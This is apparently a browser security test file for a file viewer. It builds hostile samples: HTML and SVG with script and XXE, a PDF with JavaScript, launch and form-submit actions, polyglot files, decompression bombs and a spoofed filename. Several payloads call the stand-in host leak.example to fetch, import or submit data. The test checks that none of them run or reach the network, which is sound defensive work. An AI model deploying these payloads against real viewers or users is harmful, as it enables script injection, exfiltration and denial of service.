/**
 * Files that want something: to run, to be taken for another, to fetch, to open a window, to take all memory. Each is shown,
 * or said to be none, and nothing else happens: no request but for this site's own scripts, no dialog, no window.
 */
import { expect, it } from 'vitest';
import { browserWith, describeInBrowser } from '../../setup/browser.ts';
import { viewerServer, watch } from './house.ts';
import { flate, pdf, stream, text } from './pdfs.ts';
import * as make from './samples.ts';
import { joined, raw, utf8 } from './samples.ts';

/** Where all of them would go, had they their way. */
const LEAK = 'https://leak.example';
const RUN = `alert('run');fetch('${LEAK}/f');import('${LEAK}/i');window.open('${LEAK}/w');location='${LEAK}/l'`;
const PAGE = `<!doctype html><base href="${LEAK}"><meta http-equiv=refresh content="0;${LEAK}">
<script>${RUN}</script><script src="${LEAK}/s.js"></script><img src="${LEAK}/i.png" onerror="${RUN}">
<iframe src="${LEAK}"></iframe><link rel=stylesheet href="${LEAK}/c.css"><style>@import '${LEAK}/d.css';</style>`;
const DRAWING = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${LEAK}/e">]>
<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${LEAK}/i.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${LEAK}"/></foreignObject>&x;</svg>`;

const action = (what: string) => `<</Type/Action/S/${what}>>`;
const SCRIPT = action(
  `JavaScript/JS(app.alert\\("run"\\);app.launchURL\\("${LEAK}/j"\\);this.submitForm\\("${LEAK}"\\))`,
);
const annotations = ['URI/URI', 'Launch/F', 'GoToR/D[0/Fit]/F', 'SubmitForm/F', 'ImportData/F']
  .map((what) => `<</Type/Annot/Subtype/Link/Rect[0 0 420 595]/A${action(`${what}(${LEAK}/a)`)}>>`)
  .join('');
const remote = `/F<</FS/URL/F(${LEAK}/stream)>>/FFilter/FlateDecode`;

const EAGER = pdf({
  pages: [`${text('I want it all')} q 100 0 0 100 0 0 cm /X Do Q`],
  catalogue:
    `/OpenAction ${SCRIPT}/AA<</WC ${SCRIPT}/DP ${SCRIPT}>>/URI<</Base(${LEAK}/)>>` +
    `/Names<</JavaScript<</Names[(a)${SCRIPT}]>>/EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 12 0 R>>>>]>>>>` +
    '/AcroForm<</XFA 13 0 R/NeedAppearances true/Fields[<</FT/Tx/T(t)/Kids[]>>]>>',
  page: `/AA<</O ${SCRIPT}/C ${SCRIPT}>>/Annots[${annotations}<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]`,
  fonts:
    '<</Type/Font/Subtype/TrueType/BaseFont/Leaky/FirstChar 32/LastChar 33/Widths[500 500]/FontDescriptor 11 0 R>>',
  objects: [
    stream(`/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray${remote}`, raw('')),
    `<</Type/FontDescriptor/FontName/Leaky/Flags 32/FontFile2 14 0 R>>`,
    stream('/Type/EmbeddedFile', raw('MZ')),
    stream('', utf8(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${RUN}</script></xdp:xdp>`)),
    stream(remote, raw('')),
  ],
});

/** 30,000 by 30,000 in each of the formats that can say it in a few bytes. */
const HUGE: [string, Uint8Array][] = [
  ['huge.png', make.png(30_000, 30_000, { pixels: new Uint8Array(10) })],
  ['huge.jpg', make.jpegHeader(30_000, 30_000)],
  ['huge.gif', make.gif(30_000, 30_000)],
  ['huge.bmp', make.bmp(30_000, 30_000)],
  ['huge.avif', make.avifHeader([{ width: 30_000, height: 30_000 }])],
  ['huge.webp', make.webpExtended(30_000, 30_000, { width: 1, height: 1 })],
];

const SAMPLES: [string, Uint8Array, string | RegExp][] = [
  ['drawing.svg', utf8(DRAWING), 'This is the source text of an SVG drawing. It is not drawn'],
  ['photo.png', utf8(DRAWING), 'Named .png, but it is an SVG drawing.'],
  ['photo.jpg', utf8(PAGE), 'Named .jpg, but it is a web page.'],
  ['song.mp3', utf8(PAGE), 'Named .mp3, but it is a web page.'],
  ['report.pdf', utf8(PAGE), 'Named .pdf, but it is a web page.'],
  ['playlist.mp4', utf8(`#EXTM3U\n#EXTINF:1,\n${LEAK}/a.ts`), 'Named .mp4, but it is a plain text.'],
  ['sheet.xml', utf8(`<?xml-stylesheet href="${LEAK}/x.xsl"?><x/>`), 'This is XML, shown as text'],
  ['eager.pdf', EAGER, 'Links, forms, notes and programs in it do nothing here'],
  // One file, two formats.
  ['both.pdf', joined(pdf(), utf8(PAGE)), 'Links, forms, notes and programs in it do nothing here'],
  ['both.html', joined(utf8(PAGE), pdf()), 'This is the source text of a web page.'],
  ['both.gif', joined(make.gif(0x2a2f, 1), utf8(`*/=1;${RUN}`)), '10799 × 1 pixels.'],
  ['both.jpg', joined(make.jpeg(), raw('PK\x03\x04'), utf8(PAGE)), '8 × 8 pixels.'],
  ['comment.jpg', make.jpeg(8, 8, [make.jpegSegment(0xfe, utf8(PAGE))]), '8 × 8 pixels.'],
  ['program.png', raw('MZ\x90\0\x03\0\0\0'), 'Named .png, but it is a Windows program.'],
  ['bomb.zip', raw('PK\x03\x04'), 'This kind of file is not shown here.'],
  // What a decoder inflates: more than the picture has, and text beside it.
  ['more.png', make.png(8, 8, { pixels: new Uint8Array(2e8) }), /8 × 8 pixels\.|damaged/],
  ['profile.png', make.png(8, 8, { before: [make.compressedProfile(2e8)] }), /8 × 8 pixels\.|damaged/],
  ['bomb.pdf', pdf({ pages: [flate(new Uint8Array(1e8).fill(32))] }), 'Links, forms, notes and programs'],
  ...HUGE.map(([name, bytes]): [string, Uint8Array, RegExp] => [name, bytes, /more than 50 megapixels/]),
  ['order\u202efdp.exe', utf8('\u202eevil\u202c'), '<U+202E>evil<U+202C>'],
];

describeInBrowser('what strangers send', () => {
  const browser = browserWith();
  const server = viewerServer();

  it('is looked at, and reaches nothing', async () => {
    const { page, context, look, sent, happened, complaints } = await watch(await browser(), server());
    const policy = (await context.request.get(server().url)).headers()['content-security-policy'];
    expect(policy).toContain("default-src 'self'; script-src 'self' 'wasm-unsafe-eval'");
    for (const [name, bytes, sentence] of SAMPLES) {
      await look({ name, bytes });
      const dialog = page.locator('dialog');
      await dialog.getByText('The file itself can be dangerous').waitFor();
      await dialog
        .getByText(sentence)
        .first()
        .waitFor({ timeout: 9000 })
        .catch(() => undefined);
      expect([name, await dialog.innerText()]).toEqual([name, textWith(sentence)]);
      // Nothing of it stands on the page but text and pixels.
      const strange =
        'dialog :is(script, style, link, iframe, img, object, embed, svg, a, form, base, meta, audio, video)';
      expect([name, await page.locator(strange).count()]).toEqual([name, 0]);
    }
    await page.keyboard.press('Escape');
    await page.locator('dialog').waitFor({ state: 'detached' });
    await expect.poll(() => page.workers().length).toBe(0);

    const own = new RegExp(`^${server().url}/(?:|favicon\\.svg|assets/[\\w.-]+)$`);
    expect(sent.map(({ url }) => url).filter((url) => !own.test(url))).toEqual([]);
    expect({ happened, complaints }).toEqual({ happened: [], complaints: [] });
    await context.close();
  });
});

const textWith = (sentence: string | RegExp) =>
  typeof sentence === 'string' ? expect.stringContaining(sentence) : expect.stringMatching(sentence);
